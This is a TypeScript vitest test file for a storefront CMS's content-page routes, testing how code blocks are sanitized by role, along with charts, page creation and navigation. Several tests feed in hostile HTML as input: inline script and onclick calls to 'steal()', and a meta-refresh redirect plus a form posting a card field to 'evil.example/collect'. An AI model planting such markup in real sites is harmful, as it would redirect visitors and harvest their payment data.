import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mkdtempSync } from 'node:fs';
import Fastify, { type FastifyInstance, type RouteOptions } from 'fastify';
import { Window } from 'happy-dom';
import { beforeEach, describe, expect, it } from 'vitest';
import { CONTRIBUTOR_ROLE, isPermission } from '../../../src/accounts';
import { useSeededDemoApp } from '../../../test/fixtures/demo-app';
import { Visitor } from '../../../test/fixtures/demo-visitor';
import { DEFAULT_SITE_DIR } from '../app';
import { SEED_CATALOGUE } from '../store';
import { takenUrlIds } from '../storefront';
import type { DemoDatabase } from '../database';
import { registerContentPageRoutes } from './content-page-routes';
import { registerFileRoutes } from './file-routes';
import { registerSiteStyleRoutes, MAIN_NAVIGATION, readNavigations } from '../site';
import { registerTagRoutes } from './tag-routes';
import { SEED_FORMS } from '../forms';
import { SiteTemplates } from '../../../src/site-templates';
import { hashPassword, insertSiteUser } from '../accounts';

const happyDom = new Window();
const parse = (html: string) => new happyDom.DOMParser().parseFromString(html, 'text/html');

const PAGES = '/api/admin/pages';
const STUDIO = 'a1b2c3d4e5f60718293a4b01';
const BLOCKS = `${PAGES}/${STUDIO}/blocks`;

let db: DemoDatabase;
let app: FastifyInstance;
/** The seeded editor: `content:edit` without `site:code`. */
let owner: Visitor;

useSeededDemoApp((demo) => ({ db, app } = demo));
beforeEach(async () => {
  owner = await Visitor.signedIn(app, 'editor@example.com');
});

describe('the studio page', () => {
  it('renders its code block and its chart as SVG with a data table, needing no script', async () => {
    const document = parse((await owner.get('/studio')).body);
    expect(document.querySelector('h1')?.textContent).toBe('The studio');
    expect(document.querySelector('.code-block p')?.textContent).toContain('open Tuesday to Saturday');
    const svg = document.querySelector('.chart-block svg');
    expect(svg?.getAttribute('role')).toBe('img');
    expect(document.querySelector('.chart-block desc')?.textContent).toBe(
      'Bar chart of Bisque and Glaze by Season, 4 rows: highest 14 (Autumn), lowest 6 (Summer).',
    );
    expect(document.querySelectorAll('.chart-series-1 rect')).toHaveLength(4);
    expect(document.querySelectorAll('.chart-series-2 rect')).toHaveLength(4);
    expect(document.querySelector('.chart-series-1 rect title')?.textContent).toBe('Bisque, Spring: 12');
    expect([...document.querySelectorAll('.chart-data tbody tr')].map((row) => row.textContent)).toEqual([
      'Spring129',
      'Summer86',
      'Autumn1411',
      'Winter107',
    ]);
    expect(document.querySelector('.chart-data caption')?.textContent).toBe('Data: Kiln firings by season');
  });

  it('is listed with its blocks for the editor', async () => {
    expect((await owner.get(PAGES)).json()).toEqual({
      pages: [{ id: STUDIO, urlId: 'studio', title: 'The studio', url: '/studio', blockCount: 2 }],
    });
    expect((await owner.get(`${PAGES}/${STUDIO}`)).json()).toMatchObject({
      page: { blocks: [{ type: 'code', trusted: true }, { type: 'chart' }] },
    });
  });
});

describe('a code block', () => {
  it('keeps script for a role with site:code', async () => {
    owner = await Visitor.signedIn(app, 'owner@example.com');
    const saved = await owner.postJson(BLOCKS, { type: 'code', source: '<p id="hi">Hi</p><script>document.title = "ran"</script>' });
    expect(saved.statusCode).toBe(201);
    expect(saved.json()).toMatchObject({ block: { type: 'code', trusted: true } });
    expect((await owner.get('/studio')).body).toContain('<script>document.title = "ran"</script>');
  });

  it('shows any other role script-free, and tells them so', async () => {
    const saved = await owner.postJson(BLOCKS, { type: 'code', source: '<p onclick="steal()">Hi</p><script>steal()</script>' });
    expect(saved.json()).toMatchObject({
      block: { trusted: false },
      notice:
        'Scripts, event handlers and javascript: links are removed when this block is shown: only administrators and website managers can add code that runs.',
    });
    const page = (await owner.get('/studio')).body;
    expect(page).not.toContain('steal()');
    expect(page).toContain('<p>Hi</p>');
  });

  it('drops trust when an editor without site:code saves a block an administrator wrote', async () => {
    const block = (await owner.get(`${PAGES}/${STUDIO}`)).json<{ page: { blocks: { id: string }[] } }>().page.blocks[0]!;
    const saved = await owner.putJson(`${BLOCKS}/${block.id}`, { source: '<p>Edited</p><script>x()</script>' });
    expect(saved.json()).toMatchObject({ block: { id: block.id, trusted: false } });
    expect((await owner.get('/studio')).body).not.toContain('x()');
  });

  it('stays sanitized when an administrator saves an editor’s block unchanged, until the administrator publishes it', async () => {
    const refresh =
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/collect" method="post"><input name="card"></form><p>Hours</p>';
    const written = (await owner.postJson(BLOCKS, { type: 'code', source: refresh })).json<{ block: { id: string } }>().block;
    const administrator = await Visitor.signedIn(app, 'owner@example.com');
    const resaved = await administrator.putJson(`${BLOCKS}/${written.id}`, { source: refresh });
    expect(resaved.json()).toMatchObject({
      block: { id: written.id, trusted: false },
      notice: 'Written by a contributor without code rights: shown sanitized.',
    });
    const guest = new Visitor(app);
    expect((await guest.get('/studio')).body).not.toContain('evil.example');

    expect((await owner.postJson(`${BLOCKS}/${written.id}/publish`, { source: refresh })).statusCode).toBe(403);
    const stale = await administrator.postJson(`${BLOCKS}/${written.id}/publish`, { source: '<p>Hours</p>' });
    expect(stale.statusCode).toBe(409);
    const published = await administrator.postJson(`${BLOCKS}/${written.id}/publish`, { source: refresh });
    expect(published.json()).toMatchObject({ block: { id: written.id, trusted: true } });
    expect((await guest.get('/studio')).body).toContain(refresh);
  });

  it('holds a product embed snippet that, pasted, renders the product block the loader mounts', async () => {
    const tote = SEED_CATALOGUE.find((product) => product.slug === 'canvas-tote')!;
    const { html } = (await owner.get(`/api/admin/products/${tote.id}/embed`)).json<{ html: string }>();
    expect(html.startsWith(`<div class="product-embed" data-item-id="${tote.id}">`)).toBe(true);
    expect(html).toContain('sqs-add-to-cart-button');
    await owner.postJson(BLOCKS, { type: 'code', source: html });
    const document = parse((await owner.get('/studio')).body);
    const button = document.querySelector(`.code-block .sqs-add-to-cart-button[data-item-id="${tote.id}"]`);
    expect(button?.getAttribute('role')).toBe('button');
    expect((await owner.get('/api/admin/products/nope/embed')).statusCode).toBe(404);
  });

  it('holds the newsletter block’s embed snippet: the widget element with the newsletter form, which mounts when pasted by a role with code rights', async () => {
    const answer = (await owner.get('/api/admin/newsletter/embed')).json<{ formId: string; html: string }>();
    const embed = parse(answer.html).querySelector('[data-widget="newsletter-block"]');
    expect(embed?.getAttribute('data-submit-label')).toBe('Sign Up');
    const definition = JSON.parse(embed?.querySelector('script[type="application/json"][data-form-definition]')?.textContent ?? '');
    expect(definition).toMatchObject({ id: answer.formId, name: SEED_FORMS.newsletter.name });
    const webManager = await Visitor.signedIn(app, 'webmanager@example.com');
    await webManager.postJson(BLOCKS, { type: 'code', source: answer.html });
    const shown = parse((await owner.get('/studio')).body).querySelector(
      '.code-block [data-widget="newsletter-block"] script[data-form-definition]',
    );
    expect(JSON.parse(shown?.textContent ?? '')).toEqual(definition);
  });

  it('refuses what is not HTML text', async () => {
    expect((await owner.postJson(BLOCKS, { type: 'code', source: 3 })).json()).toEqual({ error: 'source must be a string of HTML' });
    expect((await owner.postJson(BLOCKS, { type: 'video' })).json()).toEqual({ error: 'video is not one of the expected options' });
  });
});

describe('a chart block', () => {
  it('saves a pasted grid cut to the limits, telling what was cut', async () => {
    const grid = [
      ['Day', ...Array.from({ length: 11 }, (_, index) => `S${index + 1}`)],
      ...Array.from({ length: 52 }, (_, row) => [`D${row + 1}`, ...Array.from({ length: 11 }, () => '1')]),
    ];
    const saved = await owner.postJson(BLOCKS, { type: 'chart', chartType: 'line', title: 'Visits', grid });
    expect(saved.statusCode).toBe(201);
    const body = saved.json<{ block: { grid: string[][] }; notice: string }>();
    expect(body.notice).toBe('A chart takes at most 50 rows and 10 columns: 2 rows and 2 columns were left out.');
    expect(body.block.grid).toHaveLength(51);
    expect(body.block.grid[0]).toHaveLength(10);
    expect(parse((await owner.get('/studio')).body).querySelectorAll('.chart--line polyline')).toHaveLength(9);
  });

  it('refuses a dataset with the spec messages, saving nothing', async () => {
    const cases: [unknown, string][] = [
      [[['Month']], 'Your dataset must have at least one column'],
      [[['Month', 'Sales']], 'Your dataset must have at least one row'],
      [
        [
          ['Month', 'Sales'],
          ['Jan', ''],
        ],
        'Enter some data!',
      ],
      [
        [
          ['Month', 'Sales'],
          ['Jan', '1'],
          ['', '2'],
        ],
        'One or more rows was missing data',
      ],
    ];
    for (const [grid, error] of cases) {
      const response = await owner.postJson(BLOCKS, { type: 'chart', chartType: 'bar', title: 'Sales', grid });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ error });
    }
    expect((await owner.postJson(BLOCKS, { type: 'chart', chartType: 'pie', title: 'x', grid: [] })).json()).toEqual({
      error: 'pie is not one of the expected options',
    });
    expect((await owner.postJson(BLOCKS, { type: 'chart', chartType: 'bar', title: ' ', grid: [] })).json()).toEqual({
      error: 'Enter a title for the chart',
    });
    expect(db.prepare('SELECT count(*) AS count FROM content_blocks').get()).toEqual({ count: 2 });
  });

  it('is removed with its block', async () => {
    const chart = (await owner.get(`${PAGES}/${STUDIO}`))
      .json<{ page: { blocks: { id: string; type: string }[] } }>()
      .page.blocks.find((block) => block.type === 'chart')!;
    const response = await owner.delete(`${BLOCKS}/${chart.id}`);
    expect(response.statusCode).toBe(204);
    expect(parse((await owner.get('/studio')).body).querySelector('.chart-block')).toBeNull();
  });
});

describe('a new content page', () => {
  const rows = () => db.prepare('SELECT url_id AS urlId, title FROM content_pages ORDER BY position').all();
  const mainLinks = () =>
    readNavigations(db)
      .find(({ identifier }) => identifier === MAIN_NAVIGATION)!
      .items.map(({ collectionId }) => collectionId);

  it('is stored under an id derived from its title, served at it by the page template, and linked from the main navigation when asked', async () => {
    owner = await Visitor.signedIn(app, 'owner@example.com');
    const created = await owner.postJson(PAGES, { title: '  Opening hours ', urlId: '', addToNavigation: true });
    expect(created.statusCode).toBe(201);
    const { page } = created.json<{ page: { id: string; urlId: string; title: string; blocks: unknown[] } }>();
    expect(page).toMatchObject({ urlId: 'opening-hours', title: 'Opening hours', blocks: [] });
    expect(rows()).toEqual([
      { urlId: 'studio', title: 'The studio' },
      { urlId: 'opening-hours', title: 'Opening hours' },
    ]);
    expect(mainLinks().at(-1)).toBe(page.id);
    await owner.postJson(`${PAGES}/${page.id}/blocks`, { type: 'code', source: '<p>Open daily</p>' });
    const document = parse((await owner.get('/opening-hours')).body);
    expect(document.querySelector('h1')?.textContent).toBe('Opening hours');
    expect(document.querySelector('.code-block p')?.textContent).toBe('Open daily');
    expect(document.querySelector('header a[href="/opening-hours"]')?.textContent?.trim()).toBe('Opening hours');
    // A second page of the same title gets a number, as store pages do.
    const second = (await owner.postJson(PAGES, { title: 'Opening hours' })).json<{ page: { urlId: string } }>();
    expect(second.page.urlId).toBe('opening-hours-1');
  });

  it('keeps an id asked for, and stores nothing for a blank title, a bad id or a taken one', async () => {
    const asked = await owner.postJson(PAGES, { title: 'Visit us', urlId: 'visit' });
    expect(asked.json()).toMatchObject({ page: { urlId: 'visit' } });
    const before = rows();
    const refusals: [unknown, number, string][] = [
      [{ title: '   ' }, 400, 'Enter a title'],
      [{ title: 'Shop again', urlId: 'shop' }, 409, 'Another page already has the URL id "shop". Choose another.'],
      [{ title: 'Studio', urlId: 'studio' }, 409, 'Another page already has the URL id "studio". Choose another.'],
      [{ title: 'Reserved', urlId: 'config' }, 409, 'Another page already has the URL id "config". Choose another.'],
      [{ title: 'Spaces', urlId: 'two words' }, 400, ''],
      [{ title: 'Number', urlId: 5 }, 400, 'urlId must be a string'],
    ];
    for (const [body, status, message] of refusals) {
      const refused = await owner.postJson(PAGES, body);
      expect(refused.statusCode, JSON.stringify(body)).toBe(status);
      if (message !== '') expect(refused.json()).toEqual({ error: message });
    }
    expect(rows()).toEqual(before);
  });

  it('is added to the navigation only by a role that may edit it', async () => {
    const password = 'draft-editor-password';
    insertSiteUser(
      db,
      {
        id: 'drafteditor00000000000a',
        email: 'drafts@example.com',
        displayName: 'Draft editor',
        passwordHash: await hashPassword(password, { N: 2 ** 10, r: 8, p: 1 }),
        language: null,
        websiteRoles: [CONTRIBUTOR_ROLE.draftEditor],
      },
      0,
    );
    const drafts = new Visitor(app);
    expect((await drafts.signIn('drafts@example.com', password)).statusCode).toBe(200);
    const links = mainLinks();
    const refused = await drafts.postJson(PAGES, { title: 'News', addToNavigation: true });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toEqual({ error: 'Adding a page to the navigation needs the right to edit the navigation' });
    expect(rows()).toHaveLength(1);
    expect((await drafts.postJson(PAGES, { title: 'News', addToNavigation: false })).statusCode).toBe(201);
    expect(mainLinks()).toEqual(links);
  });

  it('is deleted with its blocks and its navigation links, and then is not found', async () => {
    owner = await Visitor.signedIn(app, 'owner@example.com');
    const { page } = (await owner.postJson(PAGES, { title: 'Gone soon', addToNavigation: true })).json<{ page: { id: string } }>();
    await owner.postJson(`${PAGES}/${page.id}/blocks`, { type: 'code', source: '<p>Bye</p>' });
    expect((await owner.get('/gone-soon')).statusCode).toBe(200);
    const deleted = await owner.delete(`${PAGES}/${page.id}`);
    expect(deleted.statusCode).toBe(204);
    expect(db.prepare('SELECT count(*) AS n FROM content_blocks WHERE page_id = ?').get(page.id)).toEqual({ n: 0 });
    expect(mainLinks()).not.toContain(page.id);
    expect((await owner.get('/gone-soon')).statusCode).toBe(404);
    expect((await owner.delete(`${PAGES}/${page.id}`)).statusCode).toBe(404);
  });
});

describe('the order of a page’s blocks', () => {
  const blockIds = async () =>
    (await owner.get(`${PAGES}/${STUDIO}`)).json<{ page: { blocks: { id: string }[] } }>().page.blocks.map(({ id }) => id);

  it('is saved as sent, and the storefront shows the blocks in it', async () => {
    const [code, chart] = await blockIds();
    const saved = await owner.putJson(BLOCKS, { blockIds: [chart, code] });
    expect(saved.statusCode).toBe(200);
    expect(await blockIds()).toEqual([chart, code]);
    const blocks = parse((await owner.get('/studio')).body).querySelectorAll('.code-block, .chart-block');
    expect([...blocks].map((block) => block.className.split(' ')[0])).toEqual(['chart-block', 'code-block']);
  });

  it('must name the page’s blocks, each once, and changes nothing otherwise', async () => {
    const ids = await blockIds();
    const refusals: [unknown, number, string][] = [
      [{ blockIds: 'all' }, 400, 'blockIds must be a list of the page’s block ids'],
      [{ blockIds: [ids[0], ids[0]] }, 400, 'blockIds must name each block once'],
      [{ blockIds: [ids[1]] }, 409, 'The page’s blocks have changed since it was opened. Reload the page and move the block again.'],
      [
        { blockIds: [ids[1], 'other'] },
        409,
        'The page’s blocks have changed since it was opened. Reload the page and move the block again.',
      ],
    ];
    for (const [body, status, message] of refusals) {
      const refused = await owner.putJson(BLOCKS, body);
      expect(refused.statusCode).toBe(status);
      expect(refused.json()).toEqual({ error: message });
    }
    expect(await blockIds()).toEqual(ids);
    expect((await owner.putJson(`${PAGES}/nope/blocks`, { blockIds: [] })).statusCode).toBe(404);
  });
});

describe('the editor tools routes', () => {
  it('each declare, under /api/admin, the permission they need from the shared names', async () => {
    const collected: RouteOptions[] = [];
    const bare = Fastify();
    bare.addHook('onRoute', (route) => void collected.push(route));
    registerFileRoutes(bare, db, mkdtempSync(join(tmpdir(), 'storefront-kit-routes-')), Date.now);
    registerSiteStyleRoutes(bare, db, Date.now);
    registerTagRoutes(bare, db);
    registerContentPageRoutes(bare, db, new SiteTemplates(DEFAULT_SITE_DIR), Date.now, () => [], takenUrlIds);
    await bare.ready();
    const owner = collected.filter((route) => route.url.startsWith('/api/'));
    expect(owner.length).toBeGreaterThan(15);
    for (const route of owner) {
      expect(route.url.startsWith('/api/admin/'), route.url).toBe(true);
      expect(isPermission(route.config?.permission), `${String(route.method)} ${route.url}`).toBe(true);
    }
    // What shoppers fetch (files, fonts) declares none.
    for (const route of collected.filter((each) => !each.url.startsWith('/api/'))) expect(route.config?.permission).toBeUndefined();
    await bare.close();
  });
});
